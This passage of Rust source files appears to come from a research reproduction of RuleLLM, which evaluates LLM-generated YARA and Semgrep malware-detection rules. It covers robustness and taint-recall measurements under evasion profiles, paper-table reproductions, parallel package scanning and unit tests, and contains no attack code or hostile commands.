        legit_flagged_off: count_flagged_legit(&off, &targets),
        legit_flagged_on: count_flagged_legit(&on, &targets),
    }
}

fn count_flagged_legit(verdicts: &[scanhub::Verdict], targets: &[ScanTarget]) -> u64 {
    verdicts
        .iter()
        .zip(targets)
        .filter(|(v, t)| !t.is_malicious && v.flagged())
        .count() as u64
}

/// Taint recall of one evasion arm.
#[derive(Debug, Clone, PartialEq)]
pub struct TaintDecayRow {
    /// Evasion arm name (a composite profile).
    pub arm: String,
    /// Fraction of malicious uniques with at least one flow finding.
    pub recall: f64,
    /// Legitimate packages with any flow (must stay zero: the sink
    /// catalog is built to never fire on the legit corpus).
    pub legit_flagged: u64,
}

/// The behavior engine under the same adversarial profiles that gut
/// literal-keyed rules.
///
/// The scan path is **rule-less** ([`crate::scan::scan_taint_verdicts`]):
/// every detection below is a source→sink flow, nothing else. Rules key
/// on spellings — rename, aliasing and call indirection erase those —
/// while the taint engine keys on the dataflow structure the malware
/// cannot give up, so its recall is expected to stay flat where the
/// literal decay table loses tens of points.
#[derive(Debug, Clone, PartialEq)]
pub struct TaintRobustness {
    /// Mutation seed.
    pub seed: u64,
    /// Taint recall on the pristine corpus.
    pub recall_pristine: f64,
    /// Legitimate packages with any flow on the pristine corpus.
    pub legit_flagged_pristine: u64,
    /// Total flow findings across the pristine malicious uniques.
    pub flows_on_malware: u64,
    /// One row per composite profile, weakest first.
    pub rows: Vec<TaintDecayRow>,
}

impl TaintRobustness {
    /// The row for a named arm.
    pub fn arm(&self, name: &str) -> Option<&TaintDecayRow> {
        self.rows.iter().find(|r| r.arm == name)
    }

    /// Recall lost between the light and aggressive composite profiles
    /// (the acceptance bound: at most two points, against the ~37-point
    /// literal decay the robustness table measures).
    pub fn light_to_aggressive_decay(&self) -> f64 {
        match (self.arm("light"), self.arm("aggressive")) {
            (Some(light), Some(aggressive)) => light.recall - aggressive.recall,
            _ => 0.0,
        }
    }
}

fn taint_recall(verdicts: &[scanhub::Verdict], targets: &[ScanTarget]) -> f64 {
    let malicious = targets.iter().filter(|t| t.is_malicious).count();
    if malicious == 0 {
        return 0.0;
    }
    let hit = verdicts
        .iter()
        .zip(targets)
        .filter(|(v, t)| t.is_malicious && !v.flows.is_empty())
        .count();
    hit as f64 / malicious as f64
}

fn count_flow_legit(verdicts: &[scanhub::Verdict], targets: &[ScanTarget]) -> u64 {
    verdicts
        .iter()
        .zip(targets)
        .filter(|(v, t)| !t.is_malicious && !v.flows.is_empty())
        .count() as u64
}

/// Runs the taint robustness measurement over `ctx` with mutation
/// `seed`: the pristine corpus, then each standard composite profile.
pub fn taint_robustness(ctx: &ExperimentContext, seed: u64) -> TaintRobustness {
    let pristine = crate::scan::scan_taint_verdicts(&ctx.targets);
    let flows_on_malware = pristine
        .iter()
        .zip(&ctx.targets)
        .filter(|(_, t)| t.is_malicious)
        .map(|(v, _)| v.flows.len() as u64)
        .sum();
    let mut report = TaintRobustness {
        seed,
        recall_pristine: taint_recall(&pristine, &ctx.targets),
        legit_flagged_pristine: count_flow_legit(&pristine, &ctx.targets),
        flows_on_malware,
        rows: Vec::new(),
    };
    for profile in EvasionProfile::standard() {
        let dataset: Dataset = corpus::mutate_dataset(&ctx.dataset, &profile, seed);
        let targets = build_targets(&dataset);
        let verdicts = crate::scan::scan_taint_verdicts(&targets);
        report.rows.push(TaintDecayRow {
            arm: profile.name.clone(),
            recall: taint_recall(&verdicts, &targets),
            legit_flagged: count_flow_legit(&verdicts, &targets),
        });
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use corpus::CorpusConfig;

    fn report() -> &'static RobustnessReport {
        static REPORT: std::sync::OnceLock<RobustnessReport> = std::sync::OnceLock::new();
        REPORT.get_or_init(|| {
            let ctx = ExperimentContext::new(&CorpusConfig::tiny());
            robustness(&ctx, 42)
        })
    }

    #[test]
    fn layered_scanning_recovers_string_encode_recall() {
        let ctx = ExperimentContext::new(&CorpusConfig::tiny());
        let recovery = layered_recovery(&ctx, 42);
        assert_eq!(recovery.arm, "string-encode");
        // Layered scanning can only add findings, so recall is monotone…
        assert!(
            recovery.recall_layers_on >= recovery.recall_layers_off - 1e-9,
            "layers lost recall: {} -> {}",
            recovery.recall_layers_off,
            recovery.recall_layers_on
        );
        // …and the decoded layers genuinely fire on encoded payloads.
        assert!(
            recovery.layer_findings > 0,
            "no layer finding on a string-encoded corpus"
        );
        // Recovery must not come from flagging everything: decoded
        // layers add no false positives beyond the ruleset's own.
        assert_eq!(
            recovery.legit_flagged_on, recovery.legit_flagged_off,
            "layer scanning flagged extra legitimate packages"
        );
    }

    #[test]
    fn taint_recall_is_flat_where_literal_rules_collapse() {
        let ctx = ExperimentContext::new(&CorpusConfig::tiny());
        let taint = taint_robustness(&ctx, 42);
        assert_eq!(taint.rows.len(), 3, "one row per composite profile");
        // The engine genuinely fires on the pristine malicious corpus…
        assert!(
            taint.recall_pristine > 0.5,
            "pristine taint recall suspiciously low: {}",
            taint.recall_pristine
        );
        assert!(taint.flows_on_malware > 0);
        // …never on the legit corpus, pristine or mutated (the
        // zero-added-false-positives acceptance bound)…
        assert_eq!(taint.legit_flagged_pristine, 0);
        for row in &taint.rows {
            assert_eq!(
                row.legit_flagged, 0,
                "taint flagged a legit package under {}",
                row.arm
            );
        }
        // …and the full aggressive stack (rename + aliasing + call
        // indirection + string encoding) costs at most two points of
        // recall over cosmetic churn, where the literal decay table
        // loses tens.
        assert!(
            taint.light_to_aggressive_decay() <= 0.02 + 1e-9,
            "taint recall decayed {:.1} points light -> aggressive",
            taint.light_to_aggressive_decay() * 100.0
        );
        // No profile drops below the pristine baseline either.
        for row in &taint.rows {
            assert!(
                row.recall >= taint.recall_pristine - 0.02 - 1e-9,
                "{} recall {} fell below pristine {}",
                row.arm,
                row.recall,
                taint.recall_pristine
            );
        }
    }

    #[test]
    fn covers_every_source_and_arm() {
        let r = report();
        assert_eq!(r.sources.len(), 4);
        let arm_count = Transform::ALL.len() + 3;
        for s in &r.sources {
            assert_eq!(s.rows.len(), arm_count, "source {}", s.source);
            assert!(s.arm("aggressive").is_some());
            assert!(s.arm("rename").is_some());
        }
    }

    #[test]
    fn mutation_degrades_rulellm_recall_monotonically_with_strength() {
        let r = report();
        let s = r.source("RuleLLM").expect("rulellm block");
        let aggressive = s.arm("aggressive").expect("aggressive row");
        let light = s.arm("light").expect("light row");
        // Composite attacks can only lose recall relative to the pristine
        // corpus, and the full stack must hurt at least as much as
        // cosmetic churn.
        assert!(
            aggressive.confusion.recall() <= s.original.recall() + 1e-9,
            "aggressive recall {} above original {}",
            aggressive.confusion.recall(),
            s.original.recall()
        );
        assert!(
            aggressive.confusion.recall() <= light.confusion.recall() + 0.05,
            "aggressive {} vs light {}",
            aggressive.confusion.recall(),
            light.confusion.recall()
        );
        // The attack is real: the aggressive profile must produce
        // measurable decay against literal-atom-driven rules.
        assert!(
            s.recall_decay(aggressive) > 0.1,
            "aggressive decay suspiciously small: {}",
            s.recall_decay(aggressive)
        );
    }

    #[test]
    fn cosmetic_churn_does_not_create_false_positives() {
        let r = report();
        for s in &r.sources {
            let light = s.arm("light").expect("light row");
            assert!(
                light.confusion.fp <= s.original.fp + 1,
                "source {}: churn inflated false positives {} -> {}",
                s.source,
                s.original.fp,
                light.confusion.fp
            );
        }
    }

    #[test]
    fn report_is_deterministic_in_the_seed() {
        // Compare the shared cached report against one fresh run (the
        // context is regenerated too, so this covers corpus, mutation,
        // pipeline and scan determinism end to end).
        let ctx = ExperimentContext::new(&CorpusConfig::tiny());
        let fresh = robustness(&ctx, 42);
        assert_eq!(&fresh, report());
    }
}

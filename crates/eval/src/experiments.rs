//! The paper's evaluation suite: one function per table / figure.

use std::collections::HashMap;

use corpus::Dataset;
use llm_sim::{ModelProfile, RuleFormat};
use rulellm::{Pipeline, PipelineConfig, PipelineOutput};
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::CompiledRules;

use crate::metrics::{Confusion, MetricsRow};
use crate::scan::{build_targets, scan_all, ScanTarget, TargetMatches};

/// Shared experiment state: the corpus and its prepared scan targets.
#[derive(Debug)]
pub struct ExperimentContext {
    /// The generated dataset.
    pub dataset: Dataset,
    /// Unique malware + legit, prepared for scanning.
    pub targets: Vec<ScanTarget>,
}

impl ExperimentContext {
    /// Generates the corpus and prepares targets.
    pub fn new(config: &corpus::CorpusConfig) -> Self {
        let dataset = Dataset::generate(config);
        let targets = build_targets(&dataset);
        ExperimentContext { dataset, targets }
    }
}

/// Runs the RuleLLM pipeline over the deduplicated malware corpus.
pub fn run_rulellm(dataset: &Dataset, config: PipelineConfig) -> PipelineOutput {
    let unique: Vec<&oss_registry::Package> = dataset
        .unique_malware()
        .into_iter()
        .map(|m| &m.package)
        .collect();
    Pipeline::new(config).run(&unique)
}

/// Compiles a pipeline output into scanner-ready rulesets. Rules that
/// fail to compile here would be a pipeline bug — alignment guarantees
/// compilability — so this panics on failure.
pub fn compile_output(output: &PipelineOutput) -> (CompiledRules, CompiledSemgrepRules) {
    let yara = yara_engine::compile(&output.yara_ruleset())
        .unwrap_or_else(|e| panic!("aligned YARA ruleset must compile: {e}"));
    let mut semgrep_rules = Vec::new();
    for r in &output.semgrep {
        let compiled = semgrep_engine::compile(&r.text)
            .unwrap_or_else(|e| panic!("aligned Semgrep rule must compile: {e}\n{}", r.text));
        semgrep_rules.extend(compiled.rules);
    }
    (
        yara,
        CompiledSemgrepRules {
            rules: semgrep_rules,
        },
    )
}

/// Compiles a list of Semgrep YAML documents into one ruleset, skipping
/// duplicates by id.
pub fn compile_semgrep_set(texts: &[&str]) -> CompiledSemgrepRules {
    let mut rules = Vec::new();
    let mut seen = std::collections::HashSet::new();
    for text in texts {
        let compiled = semgrep_engine::compile(text)
            .unwrap_or_else(|e| panic!("corpus rule must compile: {e}\n{text}"));
        for r in compiled.rules {
            if seen.insert(r.id.clone()) {
                rules.push(r);
            }
        }
    }
    CompiledSemgrepRules { rules }
}

/// Package-level confusion: predicted malicious iff at least `threshold`
/// rules matched.
pub fn confusion_at(
    matches: &[TargetMatches],
    targets: &[ScanTarget],
    threshold: usize,
) -> Confusion {
    let mut c = Confusion::default();
    for (m, t) in matches.iter().zip(targets) {
        c.observe(t.is_malicious, m.total() >= threshold);
    }
    c
}

// ---------------------------------------------------------------- Table VIII

/// Table VIII: RuleLLM vs the scanner corpora vs the score-based
/// generator. Returns `(rows, rulellm_matches)` so downstream figures can
/// reuse the expensive scan.
pub fn table8(ctx: &ExperimentContext) -> (Vec<MetricsRow>, Vec<TargetMatches>) {
    let mut rows = Vec::new();

    // RuleLLM, full configuration.
    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    let (yara, semgrep) = compile_output(&output);
    let rulellm_matches = scan_all(Some(&yara), Some(&semgrep), &ctx.targets);
    rows.push(MetricsRow {
        name: "RuleLLM".into(),
        confusion: confusion_at(&rulellm_matches, &ctx.targets, 1),
    });

    // Yara scanner corpus.
    let yara_corpus =
        yara_engine::compile(&baselines::scanners::yara_corpus()).expect("scanner corpus compiles");
    let m = scan_all(Some(&yara_corpus), None, &ctx.targets);
    rows.push(MetricsRow {
        name: "Yara scanner".into(),
        confusion: confusion_at(&m, &ctx.targets, 1),
    });

    // Semgrep scanner corpus.
    let semgrep_corpus = compile_semgrep_set(&baselines::scanners::semgrep_corpus());
    let m = scan_all(None, Some(&semgrep_corpus), &ctx.targets);
    rows.push(MetricsRow {
        name: "Semgrep scanner".into(),
        confusion: confusion_at(&m, &ctx.targets, 1),
    });

    // Score-based generator.
    let unique: Vec<&oss_registry::Package> = ctx
        .dataset
        .unique_malware()
        .into_iter()
        .map(|m| &m.package)
        .collect();
    let legit: Vec<&oss_registry::Package> = ctx.dataset.legit.iter().map(|l| &l.package).collect();
    let scored_rules = baselines::scored::generate_rules(&unique, &legit, 42);
    let scored_text = scored_rules.join("\n");
    let scored = yara_engine::compile(&scored_text).expect("score-based rules compile");
    let m = scan_all(Some(&scored), None, &ctx.targets);
    rows.push(MetricsRow {
        name: "Score-based".into(),
        confusion: confusion_at(&m, &ctx.targets, 1),
    });

    (rows, rulellm_matches)
}

// ------------------------------------------------------------------ Table IX

/// Table IX: the pipeline under each LLM profile.
pub fn table9(ctx: &ExperimentContext) -> Vec<MetricsRow> {
    let mut rows = Vec::new();
    for profile in ModelProfile::all() {
        let name = profile.name.to_owned();
        let output = run_rulellm(&ctx.dataset, PipelineConfig::full().with_model(profile));
        let (yara, semgrep) = compile_output(&output);
        let matches = scan_all(Some(&yara), Some(&semgrep), &ctx.targets);
        rows.push(MetricsRow {
            name,
            confusion: confusion_at(&matches, &ctx.targets, 1),
        });
    }
    rows
}

// ------------------------------------------------------------------- Table X

/// Table X ablation arms in paper order.
pub fn ablation_configs() -> Vec<(&'static str, PipelineConfig)> {
    vec![
        ("LLMs alone", PipelineConfig::llm_alone()),
        ("LLM + Rule Alignment", PipelineConfig::llm_align()),
        (
            "LLM + Basic-unit + Alignment",
            PipelineConfig::llm_units_align(),
        ),
        ("RuleLLM (full)", PipelineConfig::full()),
    ]
}

/// Table X: component ablation. Rows report precision/recall like the
/// paper.
pub fn table10(ctx: &ExperimentContext) -> Vec<MetricsRow> {
    let mut rows = Vec::new();
    for (name, config) in ablation_configs() {
        let output = run_rulellm(&ctx.dataset, config);
        let (yara, semgrep) = compile_output(&output);
        let matches = scan_all(Some(&yara), Some(&semgrep), &ctx.targets);
        rows.push(MetricsRow {
            name: name.into(),
            confusion: confusion_at(&matches, &ctx.targets, 1),
        });
    }
    rows
}

// ------------------------------------------------------------------ Table XI

/// One Table XI row: rule counts per format.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleCountRow {
    /// Format label.
    pub format: &'static str,
    /// SOTA corpus size (ours / paper's claimed).
    pub sota_total: (usize, usize),
    /// SOTA OSS-specific subset size (ours / paper's claimed).
    pub sota_oss: (usize, usize),
    /// RuleLLM-generated count.
    pub rulellm: usize,
}

/// Table XI: rule counts for RuleLLM vs the scanner corpora.
pub fn table11(output: &PipelineOutput) -> Vec<RuleCountRow> {
    use baselines::scanners as sc;
    vec![
        RuleCountRow {
            format: "Yara Rule Format",
            sota_total: (
                sc::yara_generic().len() + sc::yara_overbroad().len() + sc::yara_oss().len(),
                sc::PAPER_YARA_TOTAL,
            ),
            sota_oss: (sc::yara_oss().len(), sc::PAPER_YARA_OSS),
            rulellm: output.yara.len(),
        },
        RuleCountRow {
            format: "Semgrep Rule Format",
            sota_total: (sc::semgrep_corpus().len(), sc::PAPER_SEMGREP_TOTAL),
            sota_oss: (sc::semgrep_oss().len(), sc::PAPER_SEMGREP_OSS),
            rulellm: output.semgrep.len(),
        },
    ]
}

// --------------------------------------------------------------- Fig. 5 / 6

/// Figures 5/6: metrics as a function of the matched-rule threshold
/// (predict malicious iff ≥ k rules of the format matched).
pub fn matched_curve(
    matches: &[TargetMatches],
    targets: &[ScanTarget],
    format: RuleFormat,
    max_k: usize,
) -> Vec<(usize, Confusion)> {
    (1..=max_k)
        .map(|k| {
            let mut c = Confusion::default();
            for (m, t) in matches.iter().zip(targets) {
                let n = match format {
                    RuleFormat::Yara => m.yara.len(),
                    RuleFormat::Semgrep => m.semgrep.len(),
                };
                c.observe(t.is_malicious, n >= k);
            }
            (k, c)
        })
        .collect()
}

// --------------------------------------------------------------- Fig. 7–10

/// Per-rule outcome statistics over a scan.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PerRuleStats {
    /// Rule name / id.
    pub rule: String,
    /// Malicious packages the rule matched.
    pub malware_hits: usize,
    /// Legitimate packages the rule matched.
    pub legit_hits: usize,
}

impl PerRuleStats {
    /// Per-rule precision; `None` when the rule matched nothing.
    pub fn precision(&self) -> Option<f64> {
        let total = self.malware_hits + self.legit_hits;
        if total == 0 {
            None
        } else {
            Some(self.malware_hits as f64 / total as f64)
        }
    }
}

/// Collects per-rule hit counts (Figures 7–10 input). `format` selects
/// which match list to read.
pub fn per_rule_stats(
    all_rules: &[String],
    matches: &[TargetMatches],
    targets: &[ScanTarget],
    format: RuleFormat,
) -> Vec<PerRuleStats> {
    let mut index: HashMap<&str, usize> = HashMap::new();
    let mut stats: Vec<PerRuleStats> = all_rules
        .iter()
        .enumerate()
        .map(|(i, r)| {
            index.insert(r.as_str(), i);
            PerRuleStats {
                rule: r.clone(),
                malware_hits: 0,
                legit_hits: 0,
            }
        })
        .collect();
    for (m, t) in matches.iter().zip(targets) {
        let fired = match format {
            RuleFormat::Yara => &m.yara,
            RuleFormat::Semgrep => &m.semgrep,
        };
        for rule in fired {
            if let Some(&i) = index.get(rule.as_str()) {
                if t.is_malicious {
                    stats[i].malware_hits += 1;
                } else {
                    stats[i].legit_hits += 1;
                }
            }
        }
    }
    stats
}

/// Figures 7/8: histogram of per-rule precision in 10 bins plus the
/// count of rules that matched nothing.
pub fn precision_histogram(stats: &[PerRuleStats]) -> (Vec<usize>, usize) {
    let mut bins = vec![0usize; 10];
    let mut unmatched = 0usize;
    for s in stats {
        match s.precision() {
            None => unmatched += 1,
            Some(p) => {
                let bin = ((p * 10.0) as usize).min(9);
                bins[bin] += 1;
            }
        }
    }
    (bins, unmatched)
}

/// Figures 9/10: CDF of detected-malware count per rule. Returns
/// `(sorted_counts, cdf)` where `cdf[i]` is the fraction of rules with
/// count ≤ `sorted_counts[i]`.
pub fn coverage_cdf(stats: &[PerRuleStats]) -> (Vec<usize>, Vec<f64>) {
    let mut counts: Vec<usize> = stats.iter().map(|s| s.malware_hits).collect();
    counts.sort_unstable();
    let n = counts.len().max(1) as f64;
    let cdf = (0..counts.len()).map(|i| (i + 1) as f64 / n).collect();
    (counts, cdf)
}

// ------------------------------------------------------- Table XII / Fig. 11

/// Table XII rows over a pipeline output (both formats classified).
pub fn table12(output: &PipelineOutput) -> Vec<((&'static str, &'static str), usize)> {
    let texts: Vec<&str> = output
        .yara
        .iter()
        .chain(&output.semgrep)
        .map(|r| r.text.as_str())
        .collect();
    rulellm::taxonomy::tabulate(texts)
}

/// Fig. 11: category overlap matrix over a pipeline output.
pub fn fig11(output: &PipelineOutput) -> Vec<Vec<usize>> {
    let texts: Vec<&str> = output
        .yara
        .iter()
        .chain(&output.semgrep)
        .map(|r| r.text.as_str())
        .collect();
    rulellm::taxonomy::overlap_matrix(texts)
}

// ----------------------------------------------------------- RAG extension

/// §VI extension experiment: the full pipeline with and without
/// retrieval-augmented crafting. RAG recovers missed knowledge and vetoes
/// hallucinated strings, so it should never hurt and typically lifts
/// precision.
pub fn rag_ablation(ctx: &ExperimentContext) -> Vec<MetricsRow> {
    let mut rows = Vec::new();
    for (name, config) in [
        ("RuleLLM (no RAG)", PipelineConfig::full()),
        ("RuleLLM + RAG", PipelineConfig::full_with_rag()),
    ] {
        let output = run_rulellm(&ctx.dataset, config);
        let (yara, semgrep) = compile_output(&output);
        let matches = scan_all(Some(&yara), Some(&semgrep), &ctx.targets);
        rows.push(MetricsRow {
            name: name.into(),
            confusion: confusion_at(&matches, &ctx.targets, 1),
        });
    }
    rows
}

// ------------------------------------------------------------------ Variants

/// Variant-detection report (§V-B).
#[derive(Debug, Clone, PartialEq)]
pub struct VariantReport {
    /// Groups evaluated (clusters with ≥3 members).
    pub groups: usize,
    /// Held-out variants in total.
    pub total_variants: usize,
    /// Held-out variants detected.
    pub detected: usize,
    /// Micro-average detection rate (paper: 90.32% overall).
    pub overall_rate: f64,
    /// Macro-average per-group rate (paper: 96.62% average).
    pub average_rate: f64,
}

/// §V-B: per code group, generate YARA rules from two packages and test
/// them on the group's remaining (unseen) variants.
pub fn variant_detection(dataset: &Dataset, seed: u64) -> VariantReport {
    let unique = dataset.unique_malware();
    let packages: Vec<&oss_registry::Package> = unique.iter().map(|m| &m.package).collect();
    // Finer clustering than rule generation (one group ≈ one variant
    // family): the experiment needs held-out members to actually be
    // variants of the seeds.
    let k = (packages.len() / 3).max(1);
    let knowledge = rulellm::extract_knowledge(&packages, Some(k));
    let mut groups = 0usize;
    let mut total_variants = 0usize;
    let mut detected = 0usize;
    let mut rates = Vec::new();
    for group in &knowledge.groups {
        if group.len() < 3 {
            continue;
        }
        groups += 1;
        let seeds: Vec<&oss_registry::Package> =
            group.iter().take(2).map(|&i| packages[i]).collect();
        let mut config = PipelineConfig::full();
        config.seed = seed;
        config.cluster_k = Some(1);
        config.generate_metadata_rules = false;
        let output = Pipeline::new(config).run(&seeds);
        if output.yara.is_empty() {
            rates.push(0.0);
            total_variants += group.len() - 2;
            continue;
        }
        let compiled =
            yara_engine::compile(&output.yara_ruleset()).expect("aligned ruleset compiles");
        let scanner = yara_engine::Scanner::new(&compiled);
        let mut group_hits = 0usize;
        let mut group_total = 0usize;
        for &i in group.iter().skip(2) {
            group_total += 1;
            let t = crate::scan::target_from_package(packages[i], 0, true, None);
            if scanner.is_match(&t.request.concat_buffer()) {
                group_hits += 1;
            }
        }
        total_variants += group_total;
        detected += group_hits;
        if group_total > 0 {
            rates.push(group_hits as f64 / group_total as f64);
        }
    }
    let overall_rate = if total_variants == 0 {
        0.0
    } else {
        detected as f64 / total_variants as f64
    };
    let average_rate = if rates.is_empty() {
        0.0
    } else {
        rates.iter().sum::<f64>() / rates.len() as f64
    };
    VariantReport {
        groups,
        total_variants,
        detected,
        overall_rate,
        average_rate,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use corpus::CorpusConfig;

    fn tiny_ctx() -> ExperimentContext {
        ExperimentContext::new(&CorpusConfig::tiny())
    }

    #[test]
    fn rulellm_beats_scanner_baselines_on_f1() {
        let ctx = tiny_ctx();
        let (rows, _) = table8(&ctx);
        assert_eq!(rows.len(), 4);
        let f1 = |name: &str| {
            rows.iter()
                .find(|r| r.name == name)
                .unwrap_or_else(|| panic!("row {name}"))
                .confusion
                .f1()
        };
        assert!(
            f1("RuleLLM") > f1("Yara scanner"),
            "rulellm {} vs yara scanner {}",
            f1("RuleLLM"),
            f1("Yara scanner")
        );
        assert!(f1("RuleLLM") > f1("Semgrep scanner"));
        assert!(f1("RuleLLM") > f1("Score-based"));
    }

    #[test]
    fn ablation_is_monotone_in_recall() {
        let ctx = tiny_ctx();
        let rows = table10(&ctx);
        assert_eq!(rows.len(), 4);
        let alone = rows[0].confusion.recall();
        let full = rows[3].confusion.recall();
        assert!(
            full > alone,
            "full pipeline recall {full} must beat LLM-alone {alone}"
        );
    }

    #[test]
    fn matched_curve_recall_decreases_with_k() {
        let ctx = tiny_ctx();
        let (_, matches) = table8(&ctx);
        let curve = matched_curve(&matches, &ctx.targets, RuleFormat::Yara, 4);
        assert_eq!(curve.len(), 4);
        for w in curve.windows(2) {
            assert!(w[1].1.recall() <= w[0].1.recall() + 1e-9);
        }
    }

    #[test]
    fn per_rule_stats_and_histogram() {
        let ctx = tiny_ctx();
        let output = run_rulellm(&ctx.dataset, rulellm::PipelineConfig::full());
        let (yara, semgrep) = compile_output(&output);
        let matches = scan_all(Some(&yara), Some(&semgrep), &ctx.targets);
        let names: Vec<String> = yara.rules.iter().map(|r| r.rule.name.clone()).collect();
        let stats = per_rule_stats(&names, &matches, &ctx.targets, RuleFormat::Yara);
        assert_eq!(stats.len(), names.len());
        let (bins, unmatched) = precision_histogram(&stats);
        assert_eq!(bins.iter().sum::<usize>() + unmatched, names.len());
        // Most matching rules should be high-precision (paper Fig. 7).
        let matched: usize = bins.iter().sum();
        if matched > 0 {
            assert!(
                bins[9] * 2 >= matched,
                "high-precision bin too small: {bins:?}"
            );
        }
    }

    #[test]
    fn coverage_cdf_is_monotone() {
        let stats = vec![
            PerRuleStats {
                rule: "a".into(),
                malware_hits: 1,
                legit_hits: 0,
            },
            PerRuleStats {
                rule: "b".into(),
                malware_hits: 5,
                legit_hits: 0,
            },
            PerRuleStats {
                rule: "c".into(),
                malware_hits: 2,
                legit_hits: 1,
            },
        ];
        let (counts, cdf) = coverage_cdf(&stats);
        assert_eq!(counts, vec![1, 2, 5]);
        assert!((cdf[2] - 1.0).abs() < 1e-9);
        assert!(cdf.windows(2).all(|w| w[0] <= w[1]));
    }

    #[test]
    fn table11_counts() {
        let ctx = tiny_ctx();
        let output = run_rulellm(&ctx.dataset, rulellm::PipelineConfig::full());
        let rows = table11(&output);
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0].rulellm, output.yara.len());
        assert_eq!(rows[0].sota_oss.1, 46);
    }

    #[test]
    fn table12_has_38_rows_with_content() {
        let ctx = tiny_ctx();
        let output = run_rulellm(&ctx.dataset, rulellm::PipelineConfig::full());
        let rows = table12(&output);
        assert_eq!(rows.len(), 38);
        let total: usize = rows.iter().map(|(_, c)| c).sum();
        assert!(
            total >= output.yara.len(),
            "labels {total} rules {}",
            output.yara.len()
        );
    }

    #[test]
    fn fig11_matrix_shape_and_symmetry() {
        let ctx = tiny_ctx();
        let output = run_rulellm(&ctx.dataset, rulellm::PipelineConfig::full());
        let m = fig11(&output);
        assert_eq!(m.len(), 11);
        for i in 0..11 {
            for j in 0..11 {
                assert_eq!(m[i][j], m[j][i]);
                assert!(m[i][j] <= m[i][i].min(m[j][j]) || i == j);
            }
        }
    }

    #[test]
    fn rag_never_hurts_f1() {
        let ctx = tiny_ctx();
        let rows = rag_ablation(&ctx);
        assert_eq!(rows.len(), 2);
        assert!(
            rows[1].confusion.f1() >= rows[0].confusion.f1() - 0.05,
            "RAG {:.3} vs base {:.3}",
            rows[1].confusion.f1(),
            rows[0].confusion.f1()
        );
        assert!(rows[1].confusion.precision() >= rows[0].confusion.precision() - 0.05);
    }

    #[test]
    fn variant_detection_detects_most_variants() {
        // The experiment needs several variants per family; the tiny
        // preset has exactly one, so use a dedicated configuration.
        let config = corpus::CorpusConfig {
            seed: 42,
            malware_unique: 90,
            malware_total: 100,
            legit_total: 4,
        };
        let dataset = Dataset::generate(&config);
        let report = variant_detection(&dataset, 42);
        assert!(report.groups > 0, "{report:?}");
        assert!(
            report.overall_rate > 0.6,
            "variant detection too weak: {report:?}"
        );
        assert!(report.average_rate >= report.overall_rate - 0.2);
    }
}

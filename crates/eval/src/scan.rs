//! Parallel package scanning with YARA and Semgrep rulesets.

use corpus::Dataset;
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::{CompiledRules, Scanner};

/// One package prepared for scanning.
#[derive(Debug, Clone)]
pub struct ScanTarget {
    /// Stable index within the target list.
    pub index: usize,
    /// YARA scan buffer: all source files plus rendered PKG-INFO (so
    /// metadata rules can fire).
    pub buffer: Vec<u8>,
    /// Python sources, for Semgrep.
    pub sources: Vec<String>,
    /// Ground truth.
    pub is_malicious: bool,
    /// Malware family, when malicious.
    pub family: Option<usize>,
}

/// Match results for one target.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TargetMatches {
    /// Names of YARA rules that fired.
    pub yara: Vec<String>,
    /// Ids of Semgrep rules that fired.
    pub semgrep: Vec<String>,
}

impl TargetMatches {
    /// Total distinct rules matched.
    pub fn total(&self) -> usize {
        self.yara.len() + self.semgrep.len()
    }
}

/// Builds scan targets from a dataset: **unique** malware (the paper
/// evaluates on the 1,633 deduplicated packages) followed by all
/// legitimate packages.
pub fn build_targets(dataset: &Dataset) -> Vec<ScanTarget> {
    let mut targets = Vec::new();
    for m in dataset.unique_malware() {
        targets.push(target_from_package(&m.package, targets.len(), true, Some(m.family_id)));
    }
    for l in &dataset.legit {
        targets.push(target_from_package(&l.package, targets.len(), false, None));
    }
    targets
}

/// Prepares a single package for scanning.
pub fn target_from_package(
    pkg: &oss_registry::Package,
    index: usize,
    is_malicious: bool,
    family: Option<usize>,
) -> ScanTarget {
    let mut buffer = pkg.combined_source().into_bytes();
    buffer.extend_from_slice(oss_registry::render_pkg_info(pkg.metadata()).as_bytes());
    let sources = pkg
        .files()
        .iter()
        .filter(|f| f.path.ends_with(".py"))
        .map(|f| f.contents.clone())
        .collect();
    ScanTarget {
        index,
        buffer,
        sources,
        is_malicious,
        family,
    }
}

/// Scans every target with the compiled rulesets, in parallel.
///
/// Results are returned in target order. `semgrep` may be empty (e.g. for
/// the Yara-scanner baseline).
pub fn scan_all(
    yara: Option<&CompiledRules>,
    semgrep: Option<&CompiledSemgrepRules>,
    targets: &[ScanTarget],
) -> Vec<TargetMatches> {
    let threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(4)
        .min(targets.len().max(1));
    let mut results: Vec<TargetMatches> = vec![TargetMatches::default(); targets.len()];
    let chunk = targets.len().div_ceil(threads.max(1)).max(1);
    crossbeam::thread::scope(|scope| {
        for (targets_chunk, results_chunk) in
            targets.chunks(chunk).zip(results.chunks_mut(chunk))
        {
            scope.spawn(move |_| {
                let scanner = yara.map(Scanner::new);
                for (t, r) in targets_chunk.iter().zip(results_chunk.iter_mut()) {
                    if let Some(scanner) = &scanner {
                        for hit in scanner.scan(&t.buffer) {
                            r.yara.push(hit.rule);
                        }
                    }
                    if let Some(rules) = semgrep {
                        let mut ids = std::collections::HashSet::new();
                        for src in &t.sources {
                            let module = pysrc::parse_module(src);
                            for f in semgrep_engine::scan_module(rules, &module) {
                                ids.insert(f.rule_id);
                            }
                        }
                        r.semgrep = ids.into_iter().collect();
                        r.semgrep.sort();
                    }
                }
            });
        }
    })
    .expect("scan worker panicked");
    results
}

#[cfg(test)]
mod tests {
    use super::*;
    use corpus::CorpusConfig;

    #[test]
    fn targets_cover_unique_malware_and_legit() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        assert_eq!(targets.len(), 30 + 8);
        assert_eq!(targets.iter().filter(|t| t.is_malicious).count(), 30);
        assert!(targets.iter().take(30).all(|t| t.family.is_some()));
    }

    #[test]
    fn buffer_contains_metadata() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
